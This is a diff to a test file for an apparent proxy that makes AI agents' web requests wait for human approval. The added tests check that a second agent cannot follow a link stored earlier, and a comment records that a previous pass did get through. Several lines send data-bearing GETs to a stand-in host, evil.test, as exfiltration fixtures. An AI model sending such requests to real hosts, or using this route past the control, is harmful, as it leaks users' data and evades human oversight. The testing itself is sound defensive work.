@@ -195,6 +195,10 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await posting).status, 200, 'the human approves the POST');
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=approved-4242`)).status, 403, 'a link stored by an approved POST is not followed');
+  // Another agent whose session is live before the link is stored (fourteenth pass: it followed it).
+  const bystander = await airlock.agents.add('bystander');
+  const byProxy = airlock.proxyUrl('bystander', bystander.token);
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   const shortener = await airlock.agents.add('shortener');
   const shortProxy = airlock.proxyUrl('shortener', shortener.token);
   // Fourteenth pass: a GET carrying a URL of another site waits for a human (the host may fetch or
@@ -205,6 +209,8 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await storing).status, 200, 'the human approves the GET that carries a URL');
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor one a GET stored');
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor by another agent, its session live before the link was stored');
   // What one session stored is still there in the agent's next (a human's reset, the next run): its
   // first request brings the `wrote:` labels of the agent's other sessions.
   const shortSession = ((await api('GET', '/api/sessions')).body.sessions as Array<{ id: string; agent: string }>).find((x) => x.agent === 'shortener')!;
